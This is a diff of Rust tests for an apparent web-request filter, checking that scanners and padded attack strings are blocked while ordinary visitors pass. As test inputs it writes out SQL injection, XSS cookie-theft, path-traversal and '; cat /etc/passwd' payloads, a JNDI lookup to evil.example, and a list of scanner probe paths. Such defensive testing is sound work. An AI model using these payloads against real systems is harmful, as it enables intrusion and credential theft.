@@ -136,34 +136,86 @@ fn more_parameters_than_are_looked_at_are_doubtful() {
     assert_eq!((judged.decision, judged.reason), (Decision::Observed, "too_many_parameters"));
 }
 
-/// A client that asks for a hundred things that are not there, two a second, as slow scanners do.
+/// Asks, is answered, and waits half a second.
+fn asks(world: &mut World, path: &str, status: u16, facts: RequestFacts<'_>) -> Decision {
+    let judged = world.judge(&RequestFacts { path, ..facts });
+    world.finish(&judged, &finished(&facts, status));
+    world.now_micros += 500_000;
+    judged.decision
+}
+
 #[test]
-fn a_scanner_is_blocked_within_twenty_requests_and_a_visitor_with_old_bookmarks_is_not() {
-    let scanned = |world: &mut World, path: &str, status: u16, facts: RequestFacts<'_>| {
-        let judged = world.judge(&RequestFacts { path, ..facts });
-        world.finish(&judged, &finished(&facts, status));
-        world.now_micros += 500_000;
-        judged
-    };
+fn a_scanner_is_blocked_within_twenty_requests_and_who_looks_for_what_is_gone_is_not() {
     let mut world = World::new();
     let tool = RequestFacts {
-        user_agent: "Mozilla/5.0 (compatible; probe)",
+        user_agent: "Mozilla/5.0 (compatible; x)",
         accept: b"*/*",
         accept_language: b"",
         ..BROWSER
     };
+    let words =
+        ["backup.zip", "phpinfo.php", "old", "manager/html", "test", "xmlrpc.php", "admin", "server-status"];
     let blocked = (0..20).position(|number| {
-        let path = format!("/old/page{number}/index");
-        scanned(&mut world, &path, 404, tool).decision == Decision::Blocked
+        let path = format!("/{}{number}/{}", "a".repeat(number % 3), words[number % words.len()]);
+        asks(&mut world, &path, 404, tool) == Decision::Blocked
     });
-    assert!(blocked.is_some(), "twenty pages that are not there");
+    assert!(blocked.is_some(), "a list of words");
 
-    let mut world = World::new();
-    for number in 0..60 {
-        let (path, status) =
-            if number % 5 == 4 { (format!("/gone/{number}"), 404) } else { (format!("/page/{number}"), 200) };
-        let facts = RequestFacts { cookies: COOKIES, referer: b"https://shop.example/", ..BROWSER };
-        assert_eq!(scanned(&mut world, &path, status, facts).decision, Decision::Passed, "{path}");
+    let visitor = RequestFacts { cookies: COOKIES, referer: b"https://shop.example/", ..BROWSER };
+    for (name, missing_of, requests) in
+        [("old bookmarks", 5, 60), ("a gallery whose pictures are gone", 1, 45)]
+    {
+        let mut world = World::new();
+        for number in 0..requests {
+            let status = if number % missing_of == missing_of - 1 { 404 } else { 200 };
+            let path = format!("/gallery/image{number}.jpg");
+            assert_ne!(asks(&mut world, &path, status, visitor), Decision::Blocked, "{name}: {number}");
+        }
+    }
+}
+
+#[test]
+fn words_around_an_attack_hide_nothing() {
+    let words =
+        "the quick brown fox jumps over the lazy dog and goes home to read a good book about old gardens ";
+    for attack in [
+        "x' OR 1=1-- -",
+        "1' UNION SELECT username,password FROM users-- -",
+        "<script>alert(document.cookie)</script>",
+        "../../../../etc/passwd",
+        "; cat /etc/passwd",
+        "${jndi:ldap://evil.example/a}",
+    ] {
+        for times in [0, 1, 3, 10] {
+            let padding = words.repeat(times);
+            for text in [
+                format!("{padding}{attack}"),
+                format!("{attack} {padding}"),
+                format!("{padding}{attack} {padding}"),
+            ] {
+                let query = format!("q={}", escaped(&text));
+                let judged = World::new().judge(&RequestFacts { query: &query, ..BROWSER });
+                assert_ne!(judged.decision, Decision::Passed, "{times} times: {attack}: {:?}", judged.scores);
+            }
+        }
+    }
+}
+
+#[test]
+fn innocent_parameters_in_front_hide_nothing_behind_the_bound() {
+    let many: String = (0..1500).map(|number| format!("a{number}={number}&")).collect();
+    let query = format!("{many}id=1%27%20union%20select%20password%20from%20users--%20");
+    let judged = World::new().judge(&RequestFacts { query: &query, ..BROWSER });
+    assert_eq!((judged.decision, judged.reason), (Decision::Blocked, "payload"));
+}
+
+#[test]
+fn by_which_name_or_address_a_client_asks_says_nothing() {
+    for probe in PROBES {
+        for host in ["shop.example", "127.0.0.1:8080", "localhost", "[2001:db8::1]", ""] {
+            let judged = World::new().judge(&target(probe, RequestFacts { host, ..BROWSER }));
+            assert_eq!(judged.decision, Decision::Blocked, "{probe} at `{host}`: {:?}", judged.scores);
+        }
     }
 }
 
